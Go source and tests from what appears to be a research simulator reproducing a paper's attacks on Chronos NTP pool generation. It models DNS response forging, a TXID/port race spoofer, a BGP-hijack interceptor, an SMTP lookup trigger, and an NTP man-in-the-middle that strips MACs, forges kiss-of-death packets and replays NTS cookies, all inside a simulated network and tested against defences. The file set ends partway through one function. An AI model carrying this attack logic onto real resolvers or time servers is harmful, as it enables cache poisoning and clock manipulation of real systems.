		RandomizeSourcePort: randomizePort,
	}, []dnsresolver.Hint{{Zone: "", Addr: deadRoot}})
	if err != nil {
		t.Fatal(err)
	}
	attHost, _ := n.AddHost(attackerIP)
	stub := dnsresolver.NewStub(attHost, res.Addr(), 0)
	return n, res, stub, deadRoot
}

func TestRaceSpooferSweepPoisonsMutedResolver(t *testing.T) {
	n, _, stub, deadRoot := raceRig(t, 115, false)
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	sp := NewRaceSpoofer(n, RaceSpooferConfig{
		VictimResolver: resolverIP,
		SpoofedServer:  deadRoot,
		QName:          "pool.ntp.org",
		Forge:          forge,
		Ports:          []uint16{49152}, // the resolver's first sequential ephemeral port
	})

	var got dnsresolver.Result
	gotSet := false
	stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got, gotSet = r, true })
	// Give the resolver a moment to send its query, then sweep.
	n.After(50*time.Millisecond, func() {
		if _, err := sp.FullSweep(time.Second); err != nil {
			t.Errorf("sweep: %v", err)
		}
	})
	n.RunFor(time.Minute)
	if !gotSet {
		t.Fatal("lookup never completed")
	}
	if got.Err != nil {
		t.Fatalf("lookup failed despite sweep: %v", got.Err)
	}
	if len(got.RRs) == 0 || got.RRs[0].TTL < 86400 {
		t.Fatalf("expected forged records, got %+v", got.RRs)
	}
	if sp.Injected != 1<<16 {
		t.Errorf("injected = %d", sp.Injected)
	}
}

func TestRaceSpooferDefeatedByPortRandomization(t *testing.T) {
	n, _, stub, deadRoot := raceRig(t, 116, true)
	forge := &ResponseForge{PoolName: "pool.ntp.org", Servers: evilServers(89)}
	sp := NewRaceSpoofer(n, RaceSpooferConfig{
		VictimResolver: resolverIP,
		SpoofedServer:  deadRoot,
		QName:          "pool.ntp.org",
		Forge:          forge,
		Ports:          []uint16{49152}, // wrong guess against a randomising resolver
	})
	var got dnsresolver.Result
	gotSet := false
	stub.Lookup("pool.ntp.org", dnswire.TypeA, func(r dnsresolver.Result) { got, gotSet = r, true })
	n.After(50*time.Millisecond, func() { _, _ = sp.FullSweep(time.Second) })
	n.RunFor(time.Minute)
	if !gotSet {
		t.Fatal("lookup never completed")
	}
	if got.Err == nil {
		t.Fatal("sweep succeeded despite port randomisation (port guess should miss)")
	}
}

func TestSMTPTriggerCausesSharedResolverQueries(t *testing.T) {
	tp := newTopo(t, 117, dnsresolver.Config{})
	mailHost, _ := tp.net.AddHost(simnet.IPv4(10, 0, 0, 25))
	mailStub := dnsresolver.NewStub(mailHost, tp.resolver.Addr(), 0)
	trigger, err := NewSMTPTrigger(mailHost, mailStub)
	if err != nil {
		t.Fatal(err)
	}
	if err := SendMail(tp.attacker, trigger.Addr(), "pool.ntp.org"); err != nil {
		t.Fatal(err)
	}
	tp.net.RunFor(30 * time.Second)
	if trigger.Triggered != 1 {
		t.Errorf("triggered = %d, want 1", trigger.Triggered)
	}
	// The mail server's lookups flowed through the shared resolver: the
	// A record for the attacker-chosen name is now cached.
	if _, ok := tp.resolver.Cache().Get(tp.net.Now(), "pool.ntp.org", dnswire.TypeA); !ok {
		t.Error("attacker-chosen name not cached via SMTP trigger")
	}
	if tp.resolver.Stats().ClientQueries < 2 { // MX + A
		t.Errorf("client queries = %d, want >= 2", tp.resolver.Stats().ClientQueries)
	}
}

func TestParseRecipientDomain(t *testing.T) {
	tests := []struct{ in, want string }{
		{"RCPT TO:<probe@pool.ntp.org>", "pool.ntp.org"},
		{"user@Example.COM\r\n", "example.com"},
		{"no-at-sign", ""},
		{"trailing@", ""},
		{"a@b c", "b"},
	}
	for _, tt := range tests {
		if got := parseRecipientDomain(tt.in); got != tt.want {
			t.Errorf("parseRecipientDomain(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
