package attack

import (
	"bytes"
	"testing"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/clock"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/simnet"
)

// mitmKey is the shared client↔server MAC credential for the arms-race
// scenarios below.
var mitmKey = ntpauth.Key{ID: 7, Algo: ntpauth.AlgoSHA256, Secret: []byte("ntpmitm-test-secret")}

// keyedNTPFarm builds count honest MAC-keyed NTP servers inside base's
// /24 (the prefix the MitM intercepts). The servers still answer
// unauthenticated requests — the client's policy decides what counts.
func keyedNTPFarm(t *testing.T, n *simnet.Network, base simnet.IP, count int) []simnet.IP {
	t.Helper()
	ips := make([]simnet.IP, 0, count)
	for i := 0; i < count; i++ {
		ip := simnet.IPv4(base[0], base[1], base[2], byte(int(base[3])+i))
		host, err := n.AddHost(ip)
		if err != nil {
			t.Fatal(err)
		}
		tbl, err := ntpauth.NewKeyTable(mitmKey)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := ntpserver.New(host, ntpserver.Config{
			Clock: clock.New(n.Now(), time.Duration(i%5-2)*time.Millisecond, 0),
			Auth:  &ntpauth.ServerAuth{Keys: tbl},
		}); err != nil {
			t.Fatal(err)
		}
		ips = append(ips, ip)
	}
	return ips
}

// mitmClient builds a chronos client (15 ms initial clock offset) with
// the given auth policy, seeded with ips.
func mitmClient(t *testing.T, n *simnet.Network, auth *chronos.AuthPolicy, ips []simnet.IP) *chronos.Client {
	t.Helper()
	ch, err := n.AddHost(simnet.IPv4(10, 0, 0, 1))
	if err != nil {
		t.Fatal(err)
	}
	cli := chronos.New(ch, clock.New(n.Now(), 15*time.Millisecond, 0), nil, chronos.Config{
		SyncInterval: 16 * time.Second, SampleSize: 9, MinReplies: 6, Auth: auth,
	})
	if err := cli.SeedPool(ips); err != nil {
		t.Fatal(err)
	}
	return cli
}

func requireMAC() *chronos.AuthPolicy {
	ca := &ntpauth.ClientAuth{Key: mitmKey, Require: true}
	return &chronos.AuthPolicy{ForServer: func(simnet.IP) *ntpauth.ClientAuth { return ca }}
}

// TestNTPMitMMACStrip is the strip-and-tamper arms race on the wire: the
// MitM rewrites every reply to "client clock + 25 ms" and drops the MAC.
// A client that accepts unauthenticated replies is marched off at full
// greedy speed; a require-auth client rejects every stripped reply and
// its clock never moves.
func TestNTPMitMMACStrip(t *testing.T) {
	run := func(auth *chronos.AuthPolicy) (chronos.Stats, time.Duration, *NTPMitM) {
		n := simnet.New(simnet.Config{Seed: 301})
		ips := keyedNTPFarm(t, n, simnet.IPv4(203, 0, 113, 1), 30)
		mitm := NewNTPMitM(n, simnet.IPv4(203, 0, 113, 0), 24, MitMMACStrip)
		mitm.Announce()
		cli := mitmClient(t, n, auth, ips)
		n.RunFor(10 * time.Minute)
		return cli.Stats(), cli.Offset(), mitm
	}

	st, off, mitm := run(nil)
	if mitm.Tampered == 0 {
		t.Fatal("MitM tampered nothing")
	}
	if st.Updates == 0 {
		t.Fatal("lax client applied no updates")
	}
	if off < 500*time.Millisecond {
		t.Fatalf("lax client offset = %v, want > 500ms (25ms march per 16s round)", off)
	}

	st, off, mitm = run(requireMAC())
	if mitm.Tampered == 0 {
		t.Fatal("MitM tampered nothing on the require-auth run")
	}
	if st.AuthRejects == 0 {
		t.Fatal("require-auth client rejected no stripped replies")
	}
	if st.Updates != 0 || st.PanicUpdates != 0 {
		t.Fatalf("require-auth client applied %d/%d updates from stripped replies", st.Updates, st.PanicUpdates)
	}
	if off < -30*time.Millisecond || off > 30*time.Millisecond {
		t.Errorf("require-auth client offset = %v, want untouched (~15ms initial)", off)
	}
}

// TestNTPMitMForgeKoD pins the forged-KoD asymmetry at packet fidelity:
// the MitM swallows every request into the prefix and answers with an
// unauthenticated DENY kiss. Compliance demobilizes the unauthenticated
// client's pool; the require-auth client discards the kisses (RFC 8915
// §5.7) and keeps its associations — though the on-path drop still
// starves it of genuine samples.
func TestNTPMitMForgeKoD(t *testing.T) {
	run := func(auth *chronos.AuthPolicy) (chronos.Stats, int, *NTPMitM) {
		n := simnet.New(simnet.Config{Seed: 302})
		ips := keyedNTPFarm(t, n, simnet.IPv4(203, 0, 113, 1), 30)
		mitm := NewNTPMitM(n, simnet.IPv4(203, 0, 113, 0), 24, MitMForgeKoD)
		mitm.Announce()
		cli := mitmClient(t, n, auth, ips)
		n.RunFor(10 * time.Minute)
		return cli.Stats(), cli.UsableServers(), mitm
	}

	// KoD-compliant but unauthenticated: every forged kiss is believed.
	st, usable, mitm := run(&chronos.AuthPolicy{})
	if mitm.Kisses == 0 || st.KoDKisses == 0 {
		t.Fatalf("no kisses forged/seen (%d/%d)", mitm.Kisses, st.KoDKisses)
	}
	if st.Demobilized == 0 {
		t.Fatal("forged DENY kisses demobilized nothing")
	}
	if usable >= 30 {
		t.Fatalf("usable servers = %d, want < 30 after forged DENY", usable)
	}
	if st.Updates != 0 {
		t.Fatalf("client applied %d updates though every request was swallowed", st.Updates)
	}

	// Require-auth: the kisses are origin-valid but unauthenticated, so
	// the associations survive. The move degrades to starvation — the
	// MitM still eats the requests — but never to demobilization.
	st, usable, _ = run(requireMAC())
	if st.KoDKisses == 0 {
		t.Fatal("require-auth client saw no kisses")
	}
	if st.Demobilized != 0 {
		t.Fatalf("require-auth client believed %d forged kisses", st.Demobilized)
	}
	if usable != 30 {
		t.Fatalf("usable servers = %d, want all 30", usable)
	}
	if st.Updates != 0 {
		t.Fatalf("client applied %d updates though every request was swallowed", st.Updates)
	}
}

// TestNTPMitMCookieReplay runs the replay move against NTS sessions: the
// MitM records each server's first sealed reply and serves the stale
// copy forever after. The origin/unique-identifier binding makes every
// replay fail verification, so the client starves after the first
// genuine exchange per server — but its clock is never shifted. The
// control run (tap withdrawn) pins that the starvation is the MitM's
// doing, not the NTS stack's.
func TestNTPMitMCookieReplay(t *testing.T) {
	master := bytes.Repeat([]byte{0x5a}, 32)
	const servers = 12

	run := func(announce bool) (chronos.Stats, time.Duration, *NTPMitM) {
		n := simnet.New(simnet.Config{Seed: 303})
		ips := make([]simnet.IP, 0, servers)
		sessions := make(map[simnet.IP]*ntpauth.ClientAuth, servers)
		for i := 0; i < servers; i++ {
			ip := simnet.IPv4(203, 0, 113, byte(1+i))
			host, err := n.AddHost(ip)
			if err != nil {
				t.Fatal(err)
			}
			srv, err := ntpauth.NewNTSServer(master)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := ntpserver.New(host, ntpserver.Config{
				Clock: clock.New(n.Now(), time.Duration(i%5-2)*time.Millisecond, 0),
				Auth:  &ntpauth.ServerAuth{NTS: srv, Require: true},
			}); err != nil {
				t.Fatal(err)
			}
			// Key establishment against a scratch instance sharing the
			// master key stands in for the NTS-KE channel (the serving
			// instance can open any cookie minted under the same master).
			scratch, err := ntpauth.NewNTSServer(master)
			if err != nil {
				t.Fatal(err)
			}
			sess, err := ntpauth.Establish(scratch, int64(1000+i), 256)
			if err != nil {
				t.Fatal(err)
			}
			sessions[ip] = &ntpauth.ClientAuth{NTS: sess, Require: true}
			ips = append(ips, ip)
		}
		mitm := NewNTPMitM(n, simnet.IPv4(203, 0, 113, 0), 24, MitMCookieReplay)
		if announce {
			mitm.Announce()
		}
		cli := mitmClient(t, n, &chronos.AuthPolicy{
			ForServer: func(ip simnet.IP) *ntpauth.ClientAuth { return sessions[ip] },
		}, ips)
		n.RunFor(10 * time.Minute)
		return cli.Stats(), cli.Offset(), mitm
	}

	control, _, _ := run(false)
	if control.Updates < 20 {
		t.Fatalf("control NTS client applied only %d updates", control.Updates)
	}

	st, off, mitm := run(true)
	if mitm.Recorded == 0 || mitm.Replayed == 0 {
		t.Fatalf("MitM recorded/replayed %d/%d replies", mitm.Recorded, mitm.Replayed)
	}
	if st.Updates > 4 {
		t.Fatalf("client applied %d updates under replay, want starvation after the first genuine round(s)", st.Updates)
	}
	if off < -30*time.Millisecond || off > 30*time.Millisecond {
		t.Errorf("offset = %v, want ~0 — replay must starve, not shift", off)
	}
}
