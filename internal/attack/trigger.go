package attack

import (
	"strings"
	"time"

	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// SMTPPort is where the simulated mail receiver listens.
//
// Simplification note: real SMTP runs over TCP; the simulator models the
// trigger as a single UDP message carrying the recipient domain. What the
// attack needs — "a third-party service on the victim network performs DNS
// lookups for attacker-chosen names through the shared resolver" — is
// preserved exactly.
const SMTPPort = 25

// SMTPTrigger is a mail server sharing the victim's resolver. Receiving a
// message for user@<domain> makes it resolve the domain's MX and A records
// — DNS queries the attacker initiated without touching the resolver
// directly. The paper's companion study found such third-party triggering
// (SMTP or open resolvers) possible for 14 % of web-client resolvers.
type SMTPTrigger struct {
	host *simnet.Host
	stub *dnsresolver.Stub

	// Triggered counts lookups initiated by inbound mail.
	Triggered uint64
}

// NewSMTPTrigger binds the mail receiver to host, resolving through stub.
func NewSMTPTrigger(host *simnet.Host, stub *dnsresolver.Stub) (*SMTPTrigger, error) {
	s := &SMTPTrigger{host: host, stub: stub}
	if err := host.Listen(SMTPPort, s.handle); err != nil {
		return nil, err
	}
	return s, nil
}

// Addr returns the mail receiver's endpoint.
func (s *SMTPTrigger) Addr() simnet.Addr { return simnet.Addr{IP: s.host.IP(), Port: SMTPPort} }

// handle accepts "RCPT TO:<user@domain>" style payloads and resolves the
// domain.
func (s *SMTPTrigger) handle(now time.Time, meta simnet.Meta, payload []byte) {
	domain := parseRecipientDomain(string(payload))
	if domain == "" {
		return
	}
	s.Triggered++
	// MX first, then A — both traverse (and fill) the shared resolver
	// cache; results are irrelevant to the attacker.
	s.stub.Lookup(domain, dnswire.TypeMX, func(dnsresolver.Result) {
		s.stub.Lookup(domain, dnswire.TypeA, func(dnsresolver.Result) {})
	})
}

// parseRecipientDomain extracts the domain of the first recipient.
func parseRecipientDomain(msg string) string {
	at := strings.IndexByte(msg, '@')
	if at < 0 || at == len(msg)-1 {
		return ""
	}
	domain := msg[at+1:]
	for _, cut := range []string{">", "\r", "\n", " "} {
		if i := strings.Index(domain, cut); i >= 0 {
			domain = domain[:i]
		}
	}
	return dnswire.NormalizeName(domain)
}

// SendMail makes the attacker (from) deliver a trigger message for
// user@domain to the mail server, initiating resolver queries for domain.
func SendMail(from *simnet.Host, mailServer simnet.Addr, domain string) error {
	port := from.EphemeralPort()
	defer from.Close(port)
	return from.SendUDP(port, mailServer, []byte("RCPT TO:<probe@"+domain+">"))
}
