package attack

import (
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// BGPHijacker models the end effect of a BGP prefix hijack: the attacker
// becomes on-path for all traffic towards a victim prefix (the pool's
// nameservers). Installed as a network tap, it intercepts DNS queries
// heading into the prefix and answers them itself with the forged pool
// response — TXID, source port and question are all visible on-path, so no
// guessing is needed.
type BGPHijacker struct {
	net    *simnet.Network
	forge  *ResponseForge
	prefix simnet.IP
	bits   int
	active bool
	handle simnet.TapHandle
	cursor int

	// PerResponse, when positive, makes the hijacker mimic benign pool
	// behaviour: each answer carries only PerResponse addresses (rotating
	// through the malicious set) with the forge's TTL. This is the
	// stealth mode that defeats the §V mitigations — a 24-hour hijack
	// fills the entire pool with attacker servers using perfectly
	// policy-compliant responses.
	PerResponse int

	// Hijacked counts the DNS queries answered by the attacker.
	Hijacked uint64
	// Dropped counts non-DNS packets swallowed by the hijacked prefix.
	Dropped uint64
}

// NewBGPHijacker prepares a hijack of prefix/bits. Call Announce to start
// intercepting and Withdraw to stop.
func NewBGPHijacker(net *simnet.Network, forge *ResponseForge, prefix simnet.IP, bits int) *BGPHijacker {
	return &BGPHijacker{net: net, forge: forge, prefix: prefix, bits: bits}
}

// Active reports whether the hijack is currently announced.
func (h *BGPHijacker) Active() bool { return h.active }

// Announce installs the hijack tap ("announces the prefix").
func (h *BGPHijacker) Announce() {
	if h.active {
		return
	}
	h.active = true
	h.handle = h.net.AddTap(simnet.TapFunc(h.inspect))
}

// Withdraw removes the hijack.
func (h *BGPHijacker) Withdraw() {
	if !h.active {
		return
	}
	h.active = false
	h.handle.Remove()
}

// inspect intercepts packets to the hijacked prefix.
func (h *BGPHijacker) inspect(pkt simnet.Packet) (simnet.Verdict, []simnet.Packet) {
	if !pkt.Dst.InPrefix(h.prefix, h.bits) {
		return simnet.Pass, nil
	}
	if pkt.IsFragment() || pkt.Proto != simnet.ProtoUDP {
		h.Dropped++
		return simnet.Drop, nil
	}
	srcPort, dstPort, payload, err := simnet.DecodeUDP(pkt.Src, pkt.Dst, pkt.Payload)
	if err != nil || dstPort != 53 {
		h.Dropped++
		return simnet.Drop, nil
	}
	query, err := dnswire.DecodeBorrow(payload)
	if err != nil || query.Response || len(query.Questions) != 1 {
		h.Dropped++
		return simnet.Drop, nil
	}
	if dnswire.NormalizeName(query.Questions[0].Name) != dnswire.NormalizeName(h.forge.PoolName) ||
		query.Questions[0].Type != dnswire.TypeA {
		// Not the pool query: black-hole it. (A stealthier attacker
		// would proxy it; black-holing matches a plain prefix hijack.)
		h.Dropped++
		return simnet.Drop, nil
	}
	var resp *dnswire.Message
	if h.PerResponse > 0 {
		resp = query.Reply()
		resp.Authoritative = true
		if sz, ok := query.EDNSSize(); ok {
			resp.SetEDNS(sz)
		}
		for i := 0; i < h.PerResponse && len(h.forge.Servers) > 0; i++ {
			ip := h.forge.Servers[h.cursor%len(h.forge.Servers)]
			h.cursor++
			resp.Answers = append(resp.Answers,
				dnswire.ARecord(h.forge.PoolName, h.forge.ttlSeconds(), [4]byte(ip)))
		}
	} else {
		forged, ferr := h.forge.Response(query)
		if ferr != nil {
			h.Dropped++
			return simnet.Drop, nil
		}
		resp = forged
	}
	respBytes, err := resp.Encode()
	if err != nil {
		h.Dropped++
		return simnet.Drop, nil
	}
	h.Hijacked++
	// Answer "from" the hijacked nameserver address: on-path spoofing.
	from := simnet.Addr{IP: pkt.Dst, Port: 53}
	to := simnet.Addr{IP: pkt.Src, Port: srcPort}
	datagram := simnet.EncodeUDP(from, to, respBytes)
	h.net.Inject(simnet.Packet{
		Src: pkt.Dst, Dst: pkt.Src, Proto: simnet.ProtoUDP,
		ID: pkt.ID + 1, Payload: datagram,
	}, time.Millisecond)
	return simnet.Drop, nil
}
