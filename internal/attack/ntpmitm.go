package attack

import (
	"time"

	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// MitMMove selects what the on-path NTP tamperer does to traffic
// crossing the victim prefix. These are the packet-level counterparts of
// the shiftsim.AuthModel moves E11 sweeps at engine speed; the tests in
// ntpmitm_test.go pin the same accept/reject/demobilize outcomes against
// the real chronos client and ntpauth stack.
type MitMMove int

// The authentication arms-race moves.
const (
	// MitMMACStrip rewrites every server reply to read "client clock +
	// Shift" and drops whatever credentials it carried — the classic
	// strip-and-tamper MitM. Clients that require authentication reject
	// the bare replies; clients that don't are marched off at Shift per
	// accepted round.
	MitMMACStrip MitMMove = iota
	// MitMForgeKoD swallows client requests and answers them with
	// unauthenticated DENY kisses. A KoD-compliant unauthenticated
	// client demobilizes the association for good; a require-auth
	// client ignores the kiss (RFC 8915 §5.7) and merely loses the
	// sample.
	MitMForgeKoD
	// MitMCookieReplay records the first authenticated reply per server
	// and answers every later request with that stale capture. The
	// origin/unique-identifier binding makes replays fail verification,
	// so the move degrades to starvation rather than a shift.
	MitMCookieReplay
)

// String implements fmt.Stringer.
func (m MitMMove) String() string {
	switch m {
	case MitMMACStrip:
		return "mac-strip"
	case MitMForgeKoD:
		return "forge-kod"
	case MitMCookieReplay:
		return "cookie-replay"
	default:
		return "MitMMove(?)"
	}
}

// NTPMitM is an on-path interceptor for NTP traffic of a victim server
// prefix (the end effect of the same BGP hijack BGPHijacker models,
// aimed at the time protocol instead of DNS). Installed as a network
// tap, it tampers per Move; everything that is not NTP to or from the
// prefix passes untouched.
type NTPMitM struct {
	net    *simnet.Network
	prefix simnet.IP
	bits   int
	move   MitMMove
	active bool
	handle simnet.TapHandle
	ipid   uint16

	// Shift is the per-reply clock advance MitMMACStrip serves (the
	// tamperer reads the client's clock off the echoed origin timestamp,
	// like the shiftsim strategies). 0 means 25 ms — the same sub-C2
	// step the greedy strategy uses.
	Shift time.Duration

	replays map[simnet.IP][]byte // MitMCookieReplay: first sealed reply per server

	// inflight holds the datagrams this MitM injected that have not yet
	// crossed the tap chain. Injected packets re-enter the taps exactly
	// like host transmissions, so without this guard a tampered reply
	// (Src inside the prefix, source port 123) would be intercepted and
	// re-tampered forever. Matched by backing-array identity: Inject
	// carries the slice through unchanged.
	inflight [][]byte

	// Counters.
	Tampered uint64 // replies stripped and rewritten
	Kisses   uint64 // forged DENY kisses injected
	Recorded uint64 // authenticated replies captured for replay
	Replayed uint64 // stale replies served in place of fresh ones
}

// NewNTPMitM prepares an NTP tamperer for prefix/bits. Call Announce to
// start intercepting and Withdraw to stop.
func NewNTPMitM(net *simnet.Network, prefix simnet.IP, bits int, move MitMMove) *NTPMitM {
	return &NTPMitM{
		net: net, prefix: prefix, bits: bits, move: move,
		replays: make(map[simnet.IP][]byte),
	}
}

// Active reports whether the tap is installed.
func (m *NTPMitM) Active() bool { return m.active }

// Announce installs the interception tap.
func (m *NTPMitM) Announce() {
	if m.active {
		return
	}
	m.active = true
	m.handle = m.net.AddTap(simnet.TapFunc(m.inspect))
}

// Withdraw removes the tap.
func (m *NTPMitM) Withdraw() {
	if !m.active {
		return
	}
	m.active = false
	m.handle.Remove()
}

// shift returns the effective MACStrip step.
func (m *NTPMitM) shift() time.Duration {
	if m.Shift != 0 {
		return m.Shift
	}
	return 25 * time.Millisecond
}

// inspect tampers NTP traffic crossing the victim prefix.
func (m *NTPMitM) inspect(pkt simnet.Packet) (simnet.Verdict, []simnet.Packet) {
	if pkt.IsFragment() || pkt.Proto != simnet.ProtoUDP {
		return simnet.Pass, nil
	}
	if m.own(pkt.Payload) {
		return simnet.Pass, nil
	}
	switch m.move {
	case MitMForgeKoD:
		if !pkt.Dst.InPrefix(m.prefix, m.bits) {
			return simnet.Pass, nil
		}
		srcPort, dstPort, payload, err := simnet.DecodeUDP(pkt.Src, pkt.Dst, pkt.Payload)
		if err != nil || dstPort != ntpwire.Port {
			return simnet.Pass, nil
		}
		var req, kiss ntpwire.Packet
		if ntpwire.DecodeInto(&req, payload) != nil || req.Mode != ntpwire.ModeClient {
			return simnet.Pass, nil
		}
		ntpauth.FillKoD(&kiss, ntpauth.KissDENY, &req, m.net.Now())
		m.Kisses++
		m.reply(pkt.Dst, pkt.Src, srcPort, kiss.Encode())
		return simnet.Drop, nil // the server never sees the request

	case MitMMACStrip:
		clientPort, payload, ok := m.serverReply(pkt)
		if !ok {
			return simnet.Pass, nil
		}
		var p ntpwire.Packet
		if ntpwire.DecodeInto(&p, payload) != nil || p.Mode != ntpwire.ModeServer {
			return simnet.Pass, nil
		}
		// Read the client's clock off the echoed origin timestamp and
		// serve "client time + Shift": the client computes ≈ +Shift every
		// round, an unbounded march (the greedy plan, on the wire).
		delta := p.OriginTime.Time().Sub(p.ReceiveTime.Time()) + m.shift()
		p.ReceiveTime = ntpwire.TimestampFromTime(p.ReceiveTime.Time().Add(delta))
		p.TransmitTime = ntpwire.TimestampFromTime(p.TransmitTime.Time().Add(delta))
		m.Tampered++
		m.reply(pkt.Src, pkt.Dst, clientPort, p.Encode()) // bare 48 bytes: credentials dropped
		return simnet.Drop, nil

	case MitMCookieReplay:
		clientPort, payload, ok := m.serverReply(pkt)
		if !ok {
			return simnet.Pass, nil
		}
		if len(payload) <= ntpwire.PacketSize {
			return simnet.Pass, nil // nothing authenticated to replay
		}
		if stale, seen := m.replays[pkt.Src]; seen {
			m.Replayed++
			m.reply(pkt.Src, pkt.Dst, clientPort, stale)
			return simnet.Drop, nil
		}
		m.replays[pkt.Src] = append([]byte(nil), payload...)
		m.Recorded++
		return simnet.Pass, nil // the first exchange is observed unmolested
	}
	return simnet.Pass, nil
}

// own reports whether payload is a datagram this MitM injected itself,
// removing it from the in-flight set on match.
func (m *NTPMitM) own(payload []byte) bool {
	if len(payload) == 0 {
		return false
	}
	for i, q := range m.inflight {
		if len(q) > 0 && &q[0] == &payload[0] {
			m.inflight = append(m.inflight[:i], m.inflight[i+1:]...)
			return true
		}
	}
	return false
}

// serverReply matches NTP replies leaving the victim prefix and returns
// the client's port and the NTP payload.
func (m *NTPMitM) serverReply(pkt simnet.Packet) (clientPort uint16, payload []byte, ok bool) {
	if !pkt.Src.InPrefix(m.prefix, m.bits) {
		return 0, nil, false
	}
	srcPort, dstPort, payload, err := simnet.DecodeUDP(pkt.Src, pkt.Dst, pkt.Payload)
	if err != nil || srcPort != ntpwire.Port {
		return 0, nil, false
	}
	return dstPort, payload, true
}

// reply injects payload as a spoofed server→client reply: on-path, the
// attacker answers from the victim server's own address.
func (m *NTPMitM) reply(server, client simnet.IP, clientPort uint16, payload []byte) {
	from := simnet.Addr{IP: server, Port: ntpwire.Port}
	to := simnet.Addr{IP: client, Port: clientPort}
	datagram := simnet.EncodeUDP(from, to, payload)
	m.inflight = append(m.inflight, datagram)
	m.ipid++
	m.net.Inject(simnet.Packet{
		Src: server, Dst: client, Proto: simnet.ProtoUDP,
		ID: m.ipid, Payload: datagram,
	}, time.Millisecond)
}
