// Package attack implements the adversaries of the paper:
//
//   - ResponseForge: the poisoned pool response — up to 89 A records (the
//     most that fit one non-fragmented EDNS0/1500-MTU response) with a TTL
//     longer than Chronos' 24-hour pool-generation horizon, so every later
//     hourly query is served from cache and adds no benign servers;
//   - BGPHijacker: an on-path interceptor for a victim nameserver prefix
//     (the effect of a BGP prefix hijack) answering DNS queries with the
//     forged response;
//   - FragPoisoner: the off-path IPv4 defragmentation cache-poisoning
//     attack — shrink the nameserver's path MTU (spoofed ICMP PTB), probe
//     the predictable response bytes and IPID counter, plant
//     checksum-compensated spoofed tail fragments that rewrite referral
//     glue, and redirect the resolver to an attacker nameserver;
//   - RaceSpoofer: the classic off-path TXID/port brute-force race,
//     included as the baseline poisoning mechanism;
//   - SMTPTrigger: a third-party system sharing the victim resolver whose
//     lookups the attacker can initiate remotely (the paper: queries
//     triggerable via SMTP servers or open resolvers for 14 % of
//     resolvers).
package attack

import (
	"fmt"
	"time"

	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// DefaultForgedTTL is the TTL the paper's attacker sets: comfortably past
// the 24-hour pool-generation horizon (7 days).
const DefaultForgedTTL = 7 * 24 * time.Hour

// ResponseForge builds poisoned DNS answers for a pool name.
type ResponseForge struct {
	PoolName string
	Servers  []simnet.IP   // malicious NTP servers to advertise
	TTL      time.Duration // per-record TTL; default DefaultForgedTTL
}

// ttlSeconds returns the forged TTL in seconds.
func (f *ResponseForge) ttlSeconds() uint32 {
	ttl := f.TTL
	if ttl == 0 {
		ttl = DefaultForgedTTL
	}
	return uint32(ttl / time.Second)
}

// Records returns the forged A records, at most max (0 = all).
func (f *ResponseForge) Records(max int) []dnswire.RR {
	n := len(f.Servers)
	if max > 0 && n > max {
		n = max
	}
	out := make([]dnswire.RR, 0, n)
	for _, ip := range f.Servers[:n] {
		out = append(out, dnswire.ARecord(f.PoolName, f.ttlSeconds(), [4]byte(ip)))
	}
	return out
}

// Response forges a complete answer to query: as many records as fit the
// client's advertised payload (up to 89 for a 1472-byte EDNS response).
func (f *ResponseForge) Response(query *dnswire.Message) (*dnswire.Message, error) {
	resp := query.Reply()
	resp.Authoritative = true
	resp.RecursionAvailable = true
	maxRecords, err := dnswire.MaxARecords(f.PoolName, query.MaxPayload(), false)
	if err != nil {
		return nil, fmt.Errorf("attack: forge response: %w", err)
	}
	if sz, ok := query.EDNSSize(); ok {
		resp.SetEDNS(sz)
		maxRecords, err = dnswire.MaxARecords(f.PoolName, query.MaxPayload(), true)
		if err != nil {
			return nil, fmt.Errorf("attack: forge response: %w", err)
		}
	}
	resp.Answers = f.Records(maxRecords)
	return resp, nil
}

// NewMaliciousNameserver binds a DNS server to host that answers pool-name
// queries with the forged response. The zone is registered at the pool's
// parent (e.g. "ntp.org"), matching what a resolver redirected by poisoned
// glue will believe it is talking to.
func NewMaliciousNameserver(host *simnet.Host, zone string, forge *ResponseForge) (*dnsserver.Authoritative, error) {
	srv, err := dnsserver.New(host)
	if err != nil {
		return nil, err
	}
	z := dnsserver.NewStaticZone(zone)
	// 89 records: what one non-fragmented EDNS response can carry. The
	// resolver's EDNS size (or 512-byte classic limit) further caps what
	// the wire actually delivers, via the server's truncation logic.
	maxRecords, err := dnswire.MaxARecords(forge.PoolName, dnswire.EthernetMaxPayload, true)
	if err != nil {
		return nil, err
	}
	for _, rr := range forge.Records(maxRecords) {
		z.Add(rr)
	}
	if err := srv.AddZone(zone, z); err != nil {
		return nil, err
	}
	return srv, nil
}
