package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/ipfrag"
	"chronosntp/internal/simnet"
)

// Frag-attack errors.
var (
	ErrGlueNotFound    = errors.New("attack: glue record not found in response")
	ErrNotInTail       = errors.New("attack: target record not inside a spoofable fragment")
	ErrNoFragmentation = errors.New("attack: response does not fragment at the forced MTU")
)

// RecordLoc describes where one resource record's mutable fields live in a
// raw DNS message. Offsets are relative to the start of the DNS payload.
type RecordLoc struct {
	Name     string
	Type     dnswire.Type
	TTLOff   int // offset of the 4-byte TTL
	RDataOff int // offset of the RDATA
	RDLen    int
}

// RecordOffsets walks a raw DNS message and returns the byte locations of
// every resource record (answer, authority, additional — in wire order).
// The defragmentation attack uses it to rewrite a glue record in place.
func RecordOffsets(msg []byte) ([]RecordLoc, error) {
	if len(msg) < 12 {
		return nil, dnswire.ErrShortMessage
	}
	qd := int(binary.BigEndian.Uint16(msg[4:6]))
	total := int(binary.BigEndian.Uint16(msg[6:8])) +
		int(binary.BigEndian.Uint16(msg[8:10])) +
		int(binary.BigEndian.Uint16(msg[10:12]))
	off := 12
	var err error
	for i := 0; i < qd; i++ {
